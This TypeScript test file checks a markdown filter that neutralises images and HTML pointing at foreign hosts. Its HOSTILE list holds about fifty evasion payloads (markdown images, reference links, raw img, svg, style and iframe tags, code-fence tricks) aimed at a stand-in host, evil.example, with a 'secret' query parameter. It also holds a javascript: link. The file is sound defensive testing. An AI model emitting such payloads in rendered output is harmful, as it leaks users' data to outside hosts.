import { Marked, type Token } from 'marked';
import { PictureFilter, withoutForeignPictures } from './picture-filter.js';

const EVIL = 'https://evil.example/x?d=secret';

/** What a renderer would load by itself: pictures and raw HTML with attributes. */
function loadedBy(text: string): string[] {
  const loaded: string[] = [];
  const marked = new Marked({ gfm: true });
  marked.use({
    walkTokens: (token: Token) => {
      if (token.type === 'image') loaded.push(String(token.href));
      if (
        token.type === 'html' &&
        /<[a-z][^>]*[\s/"'](?:src|srcset|style|href|data|background|poster)\s*=|<(?:img|style|link|svg|iframe)/i.test(
          token.raw,
        )
      )
        loaded.push(token.raw);
    },
  });
  const html = marked.parse(text) as string;
  for (const [tag] of html.matchAll(/<(?:img|source|link|iframe|object|svg|style|video|image)\b[^>]*>/gi))
    loaded.push(tag);
  return loaded.filter((one) => one.includes('evil'));
}

const HOSTILE = [
  `![a](${EVIL})`,
  `![](<${EVIL}> "t")`,
  `![a\nb](${EVIL}\n'title')`,
  `![a][r]\n\n[r]: ${EVIL}`,
  `[r]: ${EVIL}\n\n![r] ![x][r] ![R][]`,
  `![a][ r\n s ]\n\n[R s]:\n  <${EVIL}>`,
  `> ![a][r]\n>\n> - [r]: ${EVIL}`,
  `[![a](${EVIL})](https://other.example)`,
  `![a ![b](${EVIL}) c](${EVIL})`,
  `![a \`]\` b](${EVIL})`,
  `![a \\] b](${EVIL})`,
  `\\\\![a](${EVIL})`,
  `![a](//evil.example/x)`,
  `![a](/media/../..//evil.example)`.replace('/media/../..', ''),
  `![a](&#104;ttps://evil.example/x)`,
  `![a](h%74tps://evil.example)`,
  `<img src="${EVIL}">`,
  `<IMG\nsrc=${EVIL}\n>`,
  `<img/src=${EVIL}>`,
  `text <picture><source srcset="${EVIL}"></picture>`,
  `<div style="background:url(${EVIL})">\n`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<object data="${EVIL}"></object> <link rel=prefetch href=${EVIL}>`,
  `<style>a{background:url(${EVIL})}</style>`,
  `<!-- --><img src=${EVIL}>`,
  `<n title=">" style="background:url(${EVIL})">`,
  `<iframe src=${EVIL}`,
  `<div>\n<ab:c/style=background:url(//evil.example)>\n</div>`,
  `[^1]: [r]: ${EVIL}\n\n![r] [^1]`,
  `- \`\`\`\n  \`\`\`\n   ![a](${EVIL})`,
  `> \`\`\`\n![a](${EVIL})`,
  `- x\n\n  \`\`\`\n![a](${EVIL})`,
  `  \`\`\`\ncode\n\`\`\`\n![a](${EVIL})`,
  `para\n    \`\`\`\n    ![a](${EVIL})`,
  `para\n    ![a](${EVIL})`,
  `- a\n\n      b\n    ![a](${EVIL})`,
  `<div>\n\`\`\`\n</div>\n\n![a](${EVIL})\n\`\`\``,
  `<div>\n\`<img src=${EVIL}>\`\n</div>`,
  `\` ![a](${EVIL})`,
  `\`\` a \` ![a](${EVIL}) \``,
  `\\\` ![a](${EVIL}) \``,
  `[a](/x\`y) ![a](${EVIL}) \``,
  `[a](/u "a) \` b") ![a](${EVIL}) \``,
  `[a](x \` y) \` ![a](${EVIL}) \``,
  `<https://a\`b> ![a](${EVIL}) \``,
  `www.a.example/\` ![a](${EVIL}) \``,
  `| h | i | j |\n|---|---|---|\n| \` | ![a](${EVIL}) | \` |`,
  `\`\`\` x \`\`\`\n![a](${EVIL})\n\`\`\``,
  `~~~\n\`\`\`\n~~~\n![a](${EVIL})`,
  `\`\`\`\`\n\`\`\`\n![a](${EVIL})\n\`\`\`\`\n![a](${EVIL})`,
  `\`\`\`\r![a](x)\r\`\`\`\r![a](${EVIL})`,
  `[^1]: note\n\n    ![a](${EVIL})\n\nx[^1]`,
  `*a*![a](${EVIL})**b**`,
  `# ![a](${EVIL})`,
];

const KEPT = [
  'Wow![2] And so on![3].',
  'Ordinary prose! [a link](https://a.example), a < b, x <y> and 2<3; `a`.',
  'See [1]: it says so.\n\n- one\n- two ![like this]',
  '```html\n<img src="https://a.example/x">\n![x](https://a.example)\n```\n\nAnd so.',
  '~~~~\n```\n![x](https://a.example)\n~~~~',
  '1. Run:\n\n   ```sh\n   echo "![x](https://a.example)"\n   ```\n\n2. Done.',
  'Write `![alt](https://a.example/x.png)` or `<img src=x>`, or `` ` ``.',
  'Code:\n\n    ![x](https://a.example)\n    <img src=x>\n\nEnd.',
  'A picture of ours: ![plan](/media/written/1/plan.png?token=a.b-c) and ![](</media/a.png>).',
  'By reference: ![plan][p]\n\n[p]: /media/written/plan.png\n',
  'Line<br>break, H<sub>2</sub>O, <details><summary>More</summary>\n\nText\n\n</details>',
  '<https://a.example/x> and <ada@people.example>\r\n\r\nif i<n then\r\n\r\nok',
  '\\![no](https://a.example)',
  '',
];

describe('pictures of other hosts', () => {
  it.each(HOSTILE)('are not shown: %j', (text) => {
    expect(loadedBy(withoutForeignPictures(text))).toEqual([]);
    expect(loadedBy(withoutForeignPictures(`Before.\n\n${text}\n\nAfter.`))).toEqual([]);
  });

  it('become links that name their host', () => {
    expect(withoutForeignPictures(`See ![the plan](${EVIL} "t").`)).toBe(
      `See [the plan (picture at evil.example)](${EVIL} "t").`,
    );
    expect(withoutForeignPictures('![x](javascript:alert(1)) ![y](data:a) ![](/logout)')).toBe(
      '\\![x](javascript:alert(1)) y (picture) picture',
    );
  });

  it.each(KEPT)('are all that changes: %j', (text) => expect(withoutForeignPictures(text)).toBe(text));

  it('are found however the text was cut', () => {
    for (const text of [...HOSTILE, ...KEPT]) {
      const whole = withoutForeignPictures(text);
      for (let cut = 0; cut <= text.length; cut += 1)
        expect(inPieces([text.slice(0, cut), text.slice(cut)])).toBe(whole);
      expect(inPieces([...text])).toBe(whole);
    }
  });

  it('are found in any mixture', () => {
    const random = seeded(20);
    const parts = [
      ...HOSTILE,
      ...KEPT,
      '`',
      '``',
      '```',
      '\n',
      '\n\n',
      '    ',
      '- ',
      '> ',
      '[',
      ']',
      '](',
      ')',
      '!',
      '\\',
      '<',
      '>',
      '|',
      '~~~',
      '"',
      '\n```\n',
      '<div>\n',
      '[r]: ',
      `![a](${EVIL})`,
      `(${EVIL})`,
      '1. ',
      '\t',
      '  ',
      '\r\n',
    ];
    for (let round = 0; round < 2_500; round += 1) {
      const count = 1 + Math.floor(random() * 8);
      const text = Array.from({ length: count }, () => parts[Math.floor(random() * parts.length)]!).join('');
      const whole = withoutForeignPictures(text);
      if (loadedBy(whole).length > 0) throw new Error(JSON.stringify({ text, whole, loaded: loadedBy(whole) }));
      const pieces: string[] = [];
      for (let at = 0; at < text.length;) {
        const length = 1 + Math.floor(random() * 12);
        pieces.push(text.slice(at, at + length));
        at += length;
      }
      if (inPieces(pieces) !== whole) throw new Error(JSON.stringify({ text, pieces, got: inPieces(pieces), whole }));
    }
  });

  it('are not put together by what was told when the work broke off', () => {
    for (const text of HOSTILE)
      for (let cut = 1; cut < text.length; cut += 1) {
        const filter = new PictureFilter();
        const first = filter.push(text.slice(0, cut)) + filter.settle();
        const next = new PictureFilter();
        next.push(first);
        next.settle();
        const told = first + next.push(text.slice(cut)) + next.settle();
        const same = first + filter.push(text.slice(cut)) + filter.settle();
        expect([text, cut, loadedBy(told), loadedBy(same)]).toEqual([text, cut, [], []]);
      }
  });

  it('are looked for in linear time', () => {
    for (const part of ['![', '[', '`', '<', '<a ', '![a](', '\n- ', '``` ', '!', '\\', '> ', '[a]:']) {
      const began = process.cpuUsage();
      withoutForeignPictures(part.repeat(100_000 / part.length));
      expect(process.cpuUsage(began).user / 1_000).toBeLessThan(8_000);
    }
  });
});

function inPieces(pieces: readonly string[]): string {
  const filter = new PictureFilter();
  return pieces.map((piece) => filter.push(piece)).join('') + filter.settle();
}

function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) % 4_294_967_296;
    return state / 4_294_967_296;
  };
}
